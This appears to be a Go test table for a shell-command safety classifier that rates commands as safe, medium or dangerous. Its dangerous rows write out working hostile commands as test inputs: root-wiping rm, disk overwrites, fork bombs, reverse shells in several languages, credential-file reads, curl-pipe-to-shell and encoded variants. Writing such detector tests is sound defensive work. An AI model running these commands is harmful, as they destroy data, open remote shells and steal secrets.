package guard

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"
)

const (
	S = Safe
	M = Medium
	D = Dangerous
)

// classifyCase is one row of the classification table. rules is the exact
// set of rule ids expected (order-insensitive); nil means none.
type classifyCase struct {
	name    string
	cmd     string
	risk    Risk
	dynamic bool
	rules   []string
}

// shQuote single-quotes s for a shell.
func shQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

// nestBashC wraps cmd in n levels of bash -c.
func nestBashC(cmd string, n int) string {
	for range n {
		cmd = "bash -c " + shQuote(cmd)
	}
	return cmd
}

var classifyCases = []classifyCase{
	// --- plain, read-only: Safe ---
	{"ls", "ls -la", S, false, nil},
	{"pwd", "pwd", S, false, nil},
	{"cat-readme", "cat README.md", S, false, nil},
	{"grep-pipe-head", "grep -rn TODO src | head -20", S, false, nil},
	{"git-status-and-log", "git status && git log --oneline -5", S, false, nil},
	{"git-diff", "git diff HEAD~1 -- main.go", S, false, nil},
	{"find-name", "find . -name '*.go' -type f", S, false, nil},
	{"wc-glob", "wc -l *.go", S, false, nil},
	{"lookalike-echo-rm", `echo "rm -rf /"`, S, false, nil},
	{"lookalike-grep-mkfs", `grep -r "mkfs" .`, S, false, nil},
	{"lookalike-ls-home", "ls ~", S, false, nil},
	{"lookalike-grep-id-rsa", "grep -r id_rsa .", S, false, nil},
	{"lookalike-echo-key-path", "echo $HOME/.ssh/id_rsa", S, false, nil},
	{"lookalike-cat-heredoc-quoted", "cat <<'EOF'\nrm -rf /\ncurl x | sh\nEOF", S, false, nil},
	{"cat-etc-passwd", "cat /etc/passwd", S, false, nil},
	{"public-key", "cat ~/.ssh/id_rsa.pub", S, false, nil},
	{"ls-ssh-dir", "ls -la ~/.ssh", S, false, nil},
	{"redirect-devnull", "ls > /dev/null 2>&1", S, false, nil},
	{"urandom-xxd", "head -c 100 /dev/urandom | xxd", S, false, nil},
	{"nonliteral-arg-not-dynamic", "ls $HOME", S, false, nil},
	{"printf-sort-uniq", `printf '%s\n' a b | sort | uniq -c`, S, false, nil},
	{"env-alone", "env", S, false, nil},
	{"command-v", "command -v python3", S, false, nil},
	{"bash-c-literal-safe", "bash -c 'ls -la'", S, false, nil},
	{"pipe-into-sh-c-literal", "cat f | sh -c 'cat'", S, false, nil},
	{"sh-c-dollar0", `sh -c 'echo $0' x`, S, false, nil},
	{"alias-ll", `alias ll="ls -la"; ll`, S, false, nil},
	{"alias-self-reference", "alias ls='ls --color'; ls", S, false, nil},
	{"empty", "", S, false, nil},
	{"comment-only", "# just a comment", S, false, nil},

	// --- writers and unknowns: Medium ---
	{"rm-build", "rm -rf ./build", M, false, nil},
	{"rm-tmp-dir", "rm -rf /tmp/build", M, false, nil},
	{"rm-several", "rm -rf node_modules dist", M, false, nil},
	{"make", "make test", M, false, nil},
	{"npm-install", "npm install", M, false, nil},
	{"git-commit", `git commit -m "x"`, M, false, nil},
	{"git-c-pager", `git -c core.pager='sh -c "rm -rf /"' log`, M, false, nil},
	{"echo-to-file", "echo hello > out.txt", M, false, nil},
	{"tee-log", "make 2>&1 | tee build.log", M, false, nil},
	{"sed-inplace", "sed -i 's/a/b/' f", M, false, nil},
	{"sed-inplace-cluster", "sed -ni 's/a/b/p' f", M, false, nil},
	{"sed-print-range", `sed -n "1,50p" src/main.go`, S, false, nil},
	{"sed-substitute", "sed 's/foo/bar/g' f", S, false, nil},
	{"sed-substitute-escaped-delim", `sed -e 's/a\/b/c/g' -e '$d' f`, S, false, nil},
	{"sed-w-flag", "sed 's/a/b/w out.txt' f", M, false, nil},
	{"sed-e-command", "sed '1e id' f", M, false, nil},
	{"python-c", "python3 -c 'print(1)'", M, false, []string{RuleInlineProgram}},
	{"perl-e", `perl -e 'print "hi\n"'`, M, false, []string{RuleInlineProgram}},
	{"python-module", "python3 -m json.tool data.json", M, false, nil},
	{"bash-script", "bash script.sh", M, false, []string{RuleScriptFile}},
	{"source-venv", ". ./venv/bin/activate", M, false, []string{RuleScriptFile}},
	{"ld-preload", "LD_PRELOAD=/tmp/x.so ls", M, false, []string{RuleLoaderEnv}},
	{"export-path", "export PATH=/tmp/evil:$PATH", M, false, []string{RuleLoaderEnv}},
	{"curl-to-file", "curl -o out.json https://api.example.com", M, false, nil},
	{"sudo-apt", "sudo apt-get install -y jq", M, false, nil},
	{"chmod-lowercase-r-is-not-recursive", "chmod -r /", M, false, nil},
	{"kill-sighup-pid", "kill -1 1234", M, false, nil},
	{"find-delete-here", "find . -name '*.o' -delete", M, false, nil},
	{"find-exec-grep", "find . -name x -exec grep -l foo {} +", M, false, nil},
	{"xargs-rm", "find . -name '*.tmp' | xargs rm -f", M, false, nil},
	{"find-exec-rm-placeholder", `find / -name core -exec rm -rf {} \;`, M, false, nil},
	{"dd-devnull", "dd if=/dev/zero of=/dev/null count=1", M, false, nil},
	{"background-server", "nohup ./server.sh &", M, false, nil},
	{"ssh-keygen", "ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N ''", M, false, nil},
	{"tar-nc-no-exec", "tar czf - src | nc host 80", M, false, nil},

	// --- dangerous rules, plain ---
	{"rm-rf-root", "rm -rf /", D, false, []string{RuleRmRfRoot}},
	{"rm-fr-home", "rm -fr ~", D, false, []string{RuleRmRfRoot}},
	{"rm-r-f-star", "rm -r -f *", D, false, []string{RuleRmRfRoot}},
	{"rm-long-flags-root-star", "rm --recursive --force /*", D, false, []string{RuleRmRfRoot}},
	{"rm-no-preserve-root", "rm -rf --no-preserve-root /", D, false, []string{RuleRmRfRoot}},
	{"rm-home-var", `rm -rf "$HOME"`, D, false, []string{RuleRmRfRoot}},
	{"rm-home-slash", "rm -rf ~/", D, false, []string{RuleRmRfRoot}},
	{"rm-usr", "rm -Rf /usr", D, false, []string{RuleRmRfRoot}},
	{"rm-default-root", "rm -rf ${DIR:-/}", D, false, []string{RuleRmRfRoot}},
	{"rm-dotdot-root", "rm -rf /tmp/../", D, false, []string{RuleRmRfRoot}},
	{"rm-workspace", "rm -rf /workspace/*", D, false, []string{RuleRmRfRoot}},
	{"mkfs", "mkfs.ext4 /dev/sda1", D, false, []string{RuleMkfs}},
	{"dd-to-disk", "dd if=/dev/zero of=/dev/sda bs=1M", D, false, []string{RuleDDDevice}},
	{"redirect-to-disk", "echo x > /dev/sda", D, false, []string{RuleDeviceWrite}},
	{"redirect-to-nvme", "cat /dev/urandom > /dev/nvme0n1", D, false, []string{RuleDeviceWrite}},
	{"redirect-to-kmem", "printf x >> /dev/kmem", D, false, []string{RuleDeviceWrite}},
	{"shred-disk", "shred -n 3 /dev/sda", D, false, []string{RuleDeviceWrite}},
	{"shutdown", "shutdown -h now", D, false, []string{RulePower}},
	{"reboot", "reboot", D, false, []string{RulePower}},
	{"init-0", "init 0", D, false, []string{RulePower}},
	{"systemctl-reboot", "systemctl reboot", D, false, []string{RulePower}},
	{"chmod-777-root", "chmod -R 777 /", D, false, []string{RuleChmodRoot}},
	{"chown-root", "chown -R nobody:nogroup /", D, false, []string{RuleChownRoot}},
	{"kill-all", "kill -9 -1", D, false, []string{RuleKillAll}},
	{"kill-init", "kill 1", D, false, []string{RuleKillAll}},
	{"find-delete-root", "find / -delete", D, false, []string{RuleFindDeleteRoot}},
	{"fork-bomb", ":(){ :|:& };:", D, false, []string{RuleForkBomb}},
	{"fork-bomb-named", "bomb() { bomb | bomb & }; bomb", D, false, []string{RuleForkBomb}},
	{"nc-e", "nc -e /bin/sh 10.0.0.1 4444", D, false, []string{RuleReverseShell}},
	{"ncat-sh-exec", "ncat --sh-exec bash 1.2.3.4 80", D, false, []string{RuleReverseShell}},
	{"bash-dev-tcp", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", D, false, []string{RuleReverseShell}},
	{"exec-dev-udp", "exec 5<>/dev/udp/1.2.3.4/53", D, false, []string{RuleReverseShell}},
	{"socat-exec", "socat tcp:1.2.3.4:80 exec:/bin/sh", D, false, []string{RuleReverseShell}},
	{"python-reverse-shell", `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("1.2.3.4",80));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`, D, false, []string{RuleReverseShell, RuleInlineProgram}},
	{"perl-reverse-shell", `perl -MIO::Socket -e '$c=new IO::Socket::INET(PeerAddr,"1.2.3.4:80");STDIN->fdopen($c,r);system$_ while<>;'`, D, true, []string{RuleReverseShell, RuleInlineProgram, RuleDynamicCode}},
	{"php-reverse-shell", `php -r '$sock=fsockopen("1.2.3.4",80);exec("/bin/sh -i <&3 >&3 2>&3");'`, D, false, []string{RuleReverseShell, RuleInlineProgram}},
	{"ruby-reverse-shell", `ruby -rsocket -e 'c=TCPSocket.new("1.2.3.4",80);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'`, D, true, []string{RuleReverseShell, RuleInlineProgram, RuleDynamicCode}},
	{"cat-ssh-key", "cat ~/.ssh/id_rsa", D, false, []string{RuleCredentialRead}},
	{"cp-shadow", "cp /etc/shadow /tmp/x", D, false, []string{RuleCredentialRead}},
	{"base64-aws", "base64 ~/.aws/credentials", D, false, []string{RuleCredentialRead}},
	{"tar-ssh-dir", "tar czf - ~/.ssh | nc host 80", D, false, []string{RuleCredentialRead}},
	{"less-netrc", "less ~/.netrc", D, false, []string{RuleCredentialRead}},
	{"scp-git-credentials", "scp ~/.git-credentials host:/tmp", D, false, []string{RuleCredentialRead}},
	{"docker-config", "cat ~/.docker/config.json", D, false, []string{RuleCredentialRead}},
	{"kube-config", "cat $HOME/.kube/config", D, false, []string{RuleCredentialRead}},
	{"redirect-shadow", "cat < /etc/shadow", D, false, []string{RuleCredentialRead}},
	{"glob-shadow", "cat /etc/shad*", D, false, []string{RuleCredentialRead}},
	{"quoted-home-key", `cat "$HOME/.ssh/id_ed25519"`, D, false, []string{RuleCredentialRead}},
	{"python-reads-shadow", `python3 -c 'print(open("/etc/shadow").read())'`, D, false, []string{RuleCredentialRead, RuleInlineProgram}},
	{"sudo-cat-shadow", "sudo -u root cat /etc/shadow", D, false, []string{RuleCredentialRead}},
	{"chroot", "chroot /mnt /bin/sh", D, false, []string{RuleNamespaceTool}},
	{"nsenter", "nsenter -t 1 -m -u -i -n -p sh", D, false, []string{RuleNamespaceTool}},
	{"unshare", "unshare -r whoami", D, false, []string{RuleNamespaceTool}},
	{"insmod", "insmod rootkit.ko", D, false, []string{RulePrivileged}},

	// --- nested ---
	{"bash-c-sh-c", `bash -c "sh -c 'rm -rf /'"`, D, false, []string{RuleRmRfRoot}},
	{"wrappers-stacked", "sudo env nohup timeout 5 rm -rf /", D, false, []string{RuleRmRfRoot}},
	{"nice-ionice", "nice -n 10 ionice -c3 rm -rf /", D, false, []string{RuleRmRfRoot}},
	{"timeout-signal-dd", "timeout -s KILL 10 dd if=/dev/zero of=/dev/sdb", D, false, []string{RuleDDDevice}},
	{"stdbuf-nohup-setsid", "stdbuf -oL nohup setsid rm -rf ~", D, false, []string{RuleRmRfRoot}},
	{"env-i-assign", "env -i PATH=/bin rm -rf /", D, false, []string{RuleRmRfRoot, RuleLoaderEnv}},
	{"exec-wrapper", "exec rm -rf /", D, false, []string{RuleRmRfRoot}},
	{"command-wrapper", "command rm -rf /", D, false, []string{RuleRmRfRoot}},
	{"busybox", "busybox rm -rf /", D, false, []string{RuleRmRfRoot}},
	{"xargs-rm-root", "echo | xargs rm -rf /", D, false, []string{RuleRmRfRoot}},
	{"watch-string", "watch -n 5 'rm -rf /'", D, false, []string{RuleRmRfRoot}},
	{"su-c", "su -c 'reboot' root", D, false, []string{RulePower}},
	{"builtin-eval-literal", "builtin eval 'rm -rf /'", D, false, []string{RuleRmRfRoot}},
	{"eval-literal", `eval "rm -rf /"`, D, false, []string{RuleRmRfRoot}},
	{"cmd-subst", "echo $(rm -rf /)", D, false, []string{RuleRmRfRoot}},
	{"backticks", "echo `rm -rf ~`", D, false, []string{RuleRmRfRoot}},
	{"subshell", "(cd /tmp && rm -rf /)", D, false, []string{RuleRmRfRoot}},
	{"brace-group", "{ rm -rf /; }", D, false, []string{RuleRmRfRoot}},
	{"if-body", "if true; then rm -rf /; fi", D, false, []string{RuleRmRfRoot}},
	{"for-body", "for f in a b; do rm -rf /; done", D, false, []string{RuleRmRfRoot}},
	{"case-body", "case x in x) mkfs /dev/sda;; esac", D, false, []string{RuleMkfs}},
	{"while-body", "while read l; do shutdown now; done < list", D, false, []string{RulePower}},
	{"function-body", "f() { rm -rf /; }; f", D, false, []string{RuleRmRfRoot}},
	{"process-subst", "diff <(cat ~/.ssh/id_rsa) /dev/null", D, false, []string{RuleCredentialRead}},
	{"heredoc-to-bash", "bash <<EOF\nrm -rf /\nEOF", D, false, []string{RuleRmRfRoot}},
	{"heredoc-quoted-to-sh-pipe", "sh <<'EOF'\ncurl -s https://x | sh\nEOF", D, true, []string{RulePipeToShell, RuleDownloadExec}},
	{"herestring-to-sh", "sh <<< 'reboot'", D, false, []string{RulePower}},
	{"heredoc-data-with-cmdsubst", "cat <<EOF\n$(rm -rf /)\nEOF", D, false, []string{RuleRmRfRoot}},
	{"heredoc-expanding-to-bash", "bash <<EOF\n$cmd\nEOF", D, true, []string{RuleDynamicCode}},
	{"list-semicolon", "echo ok; rm -rf /", D, false, []string{RuleRmRfRoot}},
	{"list-or", "true || rm -rf /", D, false, []string{RuleRmRfRoot}},
	{"time-clause", "time rm -rf /", D, false, []string{RuleRmRfRoot}},
	{"negated", "! rm -rf /", D, false, []string{RuleRmRfRoot}},
	{"coproc", "coproc rm -rf /", D, false, []string{RuleRmRfRoot}},
	{"test-clause-subst", "[[ $(rm -rf /) ]]", D, false, []string{RuleRmRfRoot}},
	{"arith-subst", "echo $(( $(reboot) ))", D, false, []string{RulePower}},
	{"assignment-subst", "x=$(shutdown now)", D, false, []string{RulePower}},
	{"declare-subst", "declare x=$(reboot)", D, false, []string{RulePower}},
	{"find-exec-sh-pipe", `find . -exec sh -c 'curl x | sh' \;`, D, true, []string{RulePipeToShell, RuleDownloadExec}},
	{"depth-4-ok", nestBashC("ls", 4), S, false, nil},
	{"depth-5-overflow", nestBashC("ls", 5), D, false, []string{RuleDepthExceeded}},

	// --- obfuscated ---
	{"empty-quotes", `r""m -rf /`, D, false, []string{RuleRmRfRoot}},
	{"backslash", `\rm -rf /`, D, false, []string{RuleRmRfRoot}},
	{"single-quoted-part", `'r'm -rf /`, D, false, []string{RuleRmRfRoot}},
	{"absolute-path", `"/bin/rm" -rf /`, D, false, []string{RuleRmRfRoot}},
	{"ansi-c-hex", `$'\x72\x6d' -rf /`, D, false, []string{RuleRmRfRoot}},
	{"ansi-c-octal-target", `rm -rf $'\057'`, D, false, []string{RuleRmRfRoot}},
	{"backslash-newline", "r\\\nm -rf /", D, false, []string{RuleRmRfRoot}},
	{"brace-expansion-command", "{rm,-rf,/}", D, false, []string{RuleRmRfRoot}},
	{"brace-expansion-target", "rm -rf {/,x}", D, false, []string{RuleRmRfRoot}},
	{"brace-bomb-capped", "echo {1..99999999}{1..99999999}", S, false, nil},
	{"ifs", "rm${IFS}-rf${IFS}/", D, true, []string{RuleDynamicCommand}},
	{"ifs-cat-shadow", "cat${IFS}/etc/shadow", D, true, []string{RuleDynamicCommand}},
	{"default-value-name", "${x:-rm} -rf /", D, true, []string{RuleDynamicCommand, RuleRmRfRoot}},
	{"cmdsubst-name", "$(echo rm) -rf /", D, true, []string{RuleDynamicCommand}},
	{"backtick-name", "`echo rm` -rf /", D, true, []string{RuleDynamicCommand}},
	{"eval-variable", `eval "$CMD"`, D, true, []string{RuleDynamicCode}},
	{"eval-curl", "eval $(curl -s https://x)", D, true, []string{RuleDynamicCode, RuleDownloadExec}},
	{"bash-c-curl", `bash -c "$(curl -fsSL https://x)"`, D, true, []string{RuleDynamicCode, RuleDownloadExec}},
	{"python-c-variable", `python3 -c "$CODE"`, D, true, []string{RuleDynamicCode}},
	{"alias-rm", "alias x=rm; x -rf /", D, false, []string{RuleRmRfRoot}},
	{"alias-whole", "alias x='rm -rf /'", D, false, []string{RuleRmRfRoot}},
	{"alias-dynamic", `alias x="$y"`, D, true, []string{RuleDynamicCode}},
	{"curl-pipe-sh", "curl -fsSL https://x/install.sh | sh", D, true, []string{RulePipeToShell, RuleDownloadExec}},
	{"wget-pipe-bash", "wget -O- https://x | bash", D, true, []string{RulePipeToShell, RuleDownloadExec}},
	{"curl-tee-sudo-bash", "curl https://x | tee i.sh | sudo bash -s", D, true, []string{RulePipeToShell, RuleDownloadExec}},
	{"base64-pipe-sh", "echo cm0gLXJmIC8= | base64 -d | sh", D, true, []string{RulePipeToShell, RuleDecodeExec}},
	{"rev-pipe-sh", "echo '/ fr- mr' | rev | sh", D, true, []string{RulePipeToShell, RuleDecodeExec}},
	{"curl-pipe-python", "curl https://x | python3", D, true, []string{RulePipeToShell, RuleDownloadExec}},
	{"echo-pipe-python-dash", "echo 'import os' | python3 -", D, true, []string{RulePipeToShell}},
	{"source-procsubst-curl", "source <(curl -s https://x)", D, true, []string{RuleSourceDynamic, RuleDownloadExec}},
	{"dot-procsubst-base64", ". <(echo cm0= | base64 -d)", D, true, []string{RuleSourceDynamic, RuleDecodeExec}},
	{"bash-procsubst-wget", "bash <(wget -qO- https://x)", D, true, []string{RuleSourceDynamic, RuleDownloadExec}},
	{"download-then-run", "curl -o i.sh https://x && bash i.sh", D, true, []string{RuleDownloadExec}},
	{"wget-chmod-exec", "wget https://x/i.sh; chmod +x i.sh; ./i.sh", D, true, []string{RuleDownloadExec}},
	{"xargs-replace-sh-c", "cat x | xargs -I{} sh -c '{}'", D, true, []string{RuleDynamicCode}},
	{"xargs-sh-c-no-code", "cat list | xargs sh -c", D, true, []string{RuleDynamicCode}},
	{"tee-procsubst-sh", "tee >(sh) < script.txt", D, true, []string{RulePipeToShell}},
	{"source-dev-stdin", "curl -s https://x | source /dev/stdin", D, true, []string{RulePipeToShell, RuleDownloadExec}},

	{"python-os-system", `python3 -c 'import os; os.system("rm -rf /")'`, D, false, []string{RuleInlineProgram, RuleRmRfRoot}},
	{"python-subprocess-list", `python3 -c 'import subprocess; subprocess.call(["rm", "-rf", "/"])'`, D, false, []string{RuleInlineProgram, RuleRmRfRoot}},
	{"perl-backticks", "perl -e '`reboot`'", D, false, []string{RuleInlineProgram, RulePower}},
	{"python-print-string-is-not-run", `python3 -c 'print("rm -rf /")'`, M, false, []string{RuleInlineProgram}},
	{"awk-print-safe", "awk '{print $1}' f", S, false, nil},
	{"awk-system", `awk 'BEGIN{system("rm -rf /")}'`, D, false, []string{RuleInlineProgram, RuleRmRfRoot}},
	{"awk-dynamic-program", `awk "$prog" f`, D, true, []string{RuleDynamicCode}},
	{"python-heredoc", "python3 <<'EOF'\nimport os\nos.system('reboot')\nEOF", D, false, []string{RuleInlineProgram, RulePower}},
	{"trap-code", `trap "rm -rf /" EXIT`, D, false, []string{RuleRmRfRoot}},
	{"sh-c-positional", `sh -c 'rm -rf "$1"' _ /`, D, false, []string{RuleRmRfRoot}},
	{"find-exec-sh-positional-placeholder", `find . -exec sh -c 'rm -rf "$1"' _ {} \;`, M, false, nil},
	{"write-then-run", `echo "rm -rf /" > x.sh; bash x.sh`, D, false, []string{RuleRmRfRoot}},
	{"tee-then-source", `echo "reboot" | tee x.sh; . ./x.sh`, D, true, []string{RuleSourceDynamic}},
	{"bash-redirect-procsubst", "bash < <(curl https://x)", D, true, []string{RuleSourceDynamic, RuleDownloadExec}},
	{"rm-other-home", "rm -rf ~root", D, false, []string{RuleRmRfRoot}},
	{"env-split-string", `env -S "rm -rf /"`, D, false, []string{RuleRmRfRoot}},
	{"redirect-only-to-disk", "> /dev/sda", D, false, []string{RuleDeviceWrite}},
	{"exec-redirect-to-disk", "exec >/dev/sda", D, false, []string{RuleDeviceWrite}},
	{"sudo-double-dash", "sudo -- rm -rf /", D, false, []string{RuleRmRfRoot}},
	{"bash-xc-cluster", "bash -xc 'rm -rf /'", D, false, []string{RuleRmRfRoot}},
	{"bash-o-then-c", "bash -o errexit -c 'rm -rf /'", D, false, []string{RuleRmRfRoot}},
	{"dollar-zero-name", `sh -c '$0 -rf /' rm`, D, true, []string{RuleDynamicCommand, RuleRmRfRoot}},

	{"heredoc-file-then-bash", "cat > x.sh <<'EOF'\nrm -rf /\nEOF\nbash x.sh", D, false, []string{RuleRmRfRoot}},
	{"heredoc-file-then-python-benign", "cat > t.py <<'EOF'\nprint(1)\nEOF\npython3 t.py", M, false, []string{RuleInlineProgram}},
	{"echo-file-then-exec", `echo "reboot" > r.sh; chmod +x r.sh; ./r.sh`, D, false, []string{RulePower}},
	{"printf-shebang-python", `printf "#!/usr/bin/env python3\nimport os\nos.system(\"reboot\")\n" > p; ./p`, D, false, []string{RuleInlineProgram, RulePower}},
	{"group-written-file-unknown", "{ echo a; echo b; } > x.sh; sh x.sh", D, true, []string{RuleSourceDynamic}},
	{"appended-file-unknown", "echo ls >> a.sh; sh a.sh", D, true, []string{RuleSourceDynamic}},
	{"source-fd-3", "exec 3< <(curl https://x); source /dev/fd/3", D, true, []string{RuleSourceDynamic}},
	{"python-script-args", "python3 app.py --flag", M, false, []string{RuleScriptFile}},
	{"herestring-to-dot-stdin", `. /dev/stdin <<< "rm -rf /"`, D, false, []string{RuleRmRfRoot}},

	{"su-dash-user-c", `su - root -c "reboot"`, D, false, []string{RulePower}},
	{"su-user-c", "su root -c reboot", D, false, []string{RulePower}},
	{"su-cluster-lc", `su -lc "shutdown now"`, D, false, []string{RulePower}},
	{"script-qc", `script -qc "rm -rf /" /dev/null`, D, false, []string{RuleRmRfRoot}},
	{"runuser-u", "runuser -u bob -- rm -rf /", D, false, []string{RuleRmRfRoot}},
	{"flock-file-c", `flock /tmp/l -c "reboot"`, D, false, []string{RulePower}},
	{"flock-file-cmd", "flock /tmp/l rm -rf /", D, false, []string{RuleRmRfRoot}},
	{"cmdsubst-into-written-file-unknown", `echo $(echo "rm -rf /") > x.sh; bash x.sh`, D, true, []string{RuleSourceDynamic}},
	{"xargs-echo-into-file-unknown", "cat l | xargs echo > x.sh; sh x.sh", D, true, []string{RuleSourceDynamic}},

	{"function-args", `f() { rm -rf "$1"; }; f /`, D, false, []string{RuleRmRfRoot}},
	{"function-args-benign", `f() { rm -rf "$1"; }; f ./build`, M, false, nil},
	{"function-recursive-args", "f() { f x; }; f y", S, false, nil},

	{"home-path-command-is-literal", `"$HOME/bin/tool" --version`, M, false, nil},
	{"pwd-path-command-is-literal", "$PWD/node_modules/.bin/jest", M, false, nil},
	{"bare-key-name", "cat id_ed25519", D, false, []string{RuleCredentialRead}},
	{"home-braces-rm", `rm -rf "${HOME}"/`, D, false, []string{RuleRmRfRoot}},

	{"variable-target", `d=/; rm -rf "$d"`, D, false, []string{RuleRmRfRoot}},
	{"variable-target-reassigned", `d=/; d=/tmp/x; rm -rf "$d"`, M, false, nil},
	{"variable-from-cmdsubst-forgotten", `d=/; d=$(mktemp -d); rm -rf "$d"`, M, false, nil},
	{"exported-variable-target", `export T=/etc; chmod -R 777 $T`, D, false, []string{RuleChmodRoot}},
	{"variable-command-hint", "x=rm; $x -rf /", D, true, []string{RuleDynamicCommand, RuleRmRfRoot}},
	{"set-positional", `set -- -rf /; rm "$@"`, D, false, []string{RuleRmRfRoot}},
	{"array-args", `a=(-rf /); rm "${a[@]}"`, D, false, []string{RuleRmRfRoot}},
	{"array-unset", `a=(-rf /); unset a; rm "${a[@]}"`, M, false, nil},

	{"mv-etc", "mv /etc /tmp", D, false, []string{RuleMoveRoot}},
	{"mv-home-devnull", "mv ~ /dev/null", D, false, []string{RuleMoveRoot}},
	{"mv-into-root-is-fine", "mv ./a.txt /tmp/", M, false, nil},
	{"sysrq", "echo c > /proc/sysrq-trigger", D, false, []string{RuleDeviceWrite}},
	{"tee-proc-sys", "echo 1 | tee /proc/sys/kernel/panic", D, false, []string{RuleDeviceWrite}},
	{"read-proc-sys-ok", "cat /proc/sys/kernel/hostname", S, false, nil},

	// --- option spellings and tiers ---
	{"git-branch-list", "git branch -a", S, false, nil},
	{"git-branch-delete", "git branch -D old", M, false, nil},
	{"git-stash-list", "git stash list", S, false, nil},
	{"git-stash", "git stash", M, false, nil},
	{"git-C-status", "git -C /workspace/repo status", S, false, nil},
	{"git-config-get", "git config --get user.name", S, false, nil},
	{"git-push", "git push origin main", M, false, nil},
	{"ansi-c-escapes", `echo $'\t\n\u0041\101\cA\q\x'`, S, false, nil},
	{"ansi-unicode-name", `$'\u0072\U0000006d' -rf /`, D, false, []string{RuleRmRfRoot}},
	{"awk-f", "awk -f prog.awk data", M, false, []string{RuleScriptFile}},
	{"awk-F-v", `awk -F: -v x=1 '{print $1}' /etc/passwd`, S, false, nil},
	{"awk-redirect", `awk '{print > "out"}' f`, M, false, nil},
	{"xxd-r-sh", "xxd -r -p payload.hex | sh", D, true, []string{RulePipeToShell, RuleDecodeExec}},
	{"openssl-sh", "openssl enc -d -base64 -in x | bash", D, true, []string{RulePipeToShell, RuleDecodeExec}},
	{"gunzip-sh", "gunzip -c s.gz | sh", D, true, []string{RulePipeToShell, RuleDecodeExec}},
	{"curl-O-then-run", "curl -O https://x/i.sh && sh i.sh", D, true, []string{RuleDownloadExec}},
	{"wget-O-file-then-run", "wget -O /tmp/i.sh https://x && bash /tmp/i.sh", D, true, []string{RuleDownloadExec}},
	{"curl-output-eq-exec", "curl --output=/tmp/x https://x; /tmp/x", D, true, []string{RuleDownloadExec}},
	{"curl-cluster-o-source", "curl -sSLo /tmp/k https://x; . /tmp/k", D, true, []string{RuleDownloadExec}},
	{"xargs-replace-long", "xargs --replace={} sh -c 'echo {}'", D, true, []string{RuleDynamicCode}},
	{"env-unset-chdir", "env -u HOME --chdir=/tmp rm -rf /", D, false, []string{RuleRmRfRoot}},
	{"timeout-long-options", "timeout --signal=KILL --kill-after 5 10 reboot", D, false, []string{RulePower}},
	{"sudo-long-user", "sudo --user root reboot", D, false, []string{RulePower}},
	{"perl-E", `perl -E 'say "hi"'`, M, false, []string{RuleInlineProgram}},
	{"node-eval-eq", `node --eval='console.log(1)'`, M, false, []string{RuleInlineProgram}},
	{"python-W-then-c", `python3 -W ignore -c 'print(1)'`, M, false, []string{RuleInlineProgram}},
	{"python-dynamic-script", `python3 "$SCRIPT"`, D, true, []string{RuleSourceDynamic}},
	{"bash-dynamic-script", "bash $f", D, true, []string{RuleSourceDynamic}},
	{"bash-s-herestring", `bash -s <<< "reboot"`, D, false, []string{RulePower}},
	{"command-V", "command -V rm", S, false, nil},
	{"ionice-p", "ionice -p 123", S, false, nil},
	{"time-binary", "/usr/bin/time -v rm -rf /", D, false, []string{RuleRmRfRoot}},
	{"bash-rcfile", "bash --rcfile x.rc -c 'reboot'", D, false, []string{RulePower}},

	// --- issue 11: inline programs and wrappers are assessed, computed commands are dynamic ---
	{"issue11-perl-q-system", `perl -e "system(q{rm -rf /})"`, D, false, []string{RuleInlineProgram, RuleRmRfRoot}},
	{"issue11-xargs-herestring", `xargs rm -rf <<< /`, D, false, []string{RuleRmRfRoot}},
	{"issue11-python-fromhex", `python3 -c "import os;os.system(bytes.fromhex('726d202d7266202f').decode())"`, D, true, []string{RuleInlineProgram, RuleDynamicCode, RuleDecodeExec}},
	{"python-b64decode-system", `python3 -c 'import os;os.system(__import__("base64").b64decode("cm0gLXJmIC8=").decode())'`, D, true, []string{RuleInlineProgram, RuleDynamicCode, RuleDecodeExec}},
	{"python2-c-system", `python -c 'import os; os.system("rm -rf /")'`, D, false, []string{RuleInlineProgram, RuleRmRfRoot}},
	{"python-I-c", `python3 -I -c 'import os; os.system("rm -rf /")'`, D, false, []string{RuleInlineProgram, RuleRmRfRoot}},
	{"python-Ic-cluster", `python3 -Ic "import os; os.system('rm -rf /')"`, D, false, []string{RuleInlineProgram, RuleRmRfRoot}},
	{"python-double-quoted-program", `python3 -c "import subprocess; subprocess.run('rm -rf ~', shell=True)"`, D, false, []string{RuleInlineProgram, RuleRmRfRoot}},
	{"python-variable-command", `python3 -c 'import os; c="rm -rf /"; os.system(c)'`, D, true, []string{RuleInlineProgram, RuleDynamicCode}},
	{"python-concatenated-command", `python3 -c 'import os; os.system("rm -rf " + d)'`, D, true, []string{RuleInlineProgram, RuleDynamicCode}},
	{"python-fstring-command", `python3 -c 'import os; os.system(f"rm -rf {d}")'`, D, true, []string{RuleInlineProgram, RuleDynamicCode}},
	{"python-exec-input", `python3 -c 'exec(input())'`, D, true, []string{RuleInlineProgram, RuleDynamicCode}},
	{"python-exec-literal-nested", `python3 -c 'exec("import os; os.system(\"reboot\")")'`, D, false, []string{RuleInlineProgram, RulePower}},
	{"python-list-computed-arg", `python3 -c 'import subprocess; subprocess.run(["rm", "-rf", d])'`, M, false, []string{RuleInlineProgram}},
	{"python-list-sh-c-computed", `python3 -c 'import subprocess; subprocess.run(["sh", "-c", d])'`, D, true, []string{RuleInlineProgram, RuleDynamicCode}},
	{"python-check-output-literal", `python3 -c 'import subprocess; print(subprocess.check_output(["git", "status"]).decode())'`, M, false, []string{RuleInlineProgram}},
	{"python-platform-system-benign", `python3 -c 'import platform; print(platform.system())'`, M, false, []string{RuleInlineProgram}},
	{"python-print-benign", `python3 -c 'print(1)'`, M, false, []string{RuleInlineProgram}},
	{"perl-E-system", `perl -E 'system("rm -rf /")'`, D, false, []string{RuleInlineProgram, RuleRmRfRoot}},
	{"perl-system-list", `perl -e 'system "rm", "-rf", "/"'`, D, false, []string{RuleInlineProgram, RuleRmRfRoot}},
	{"perl-system-or-die", `perl -e 'system("rm -rf /") == 0 or die'`, D, false, []string{RuleInlineProgram, RuleRmRfRoot}},
	{"perl-qx", `perl -e 'qx{reboot}'`, D, false, []string{RuleInlineProgram, RulePower}},
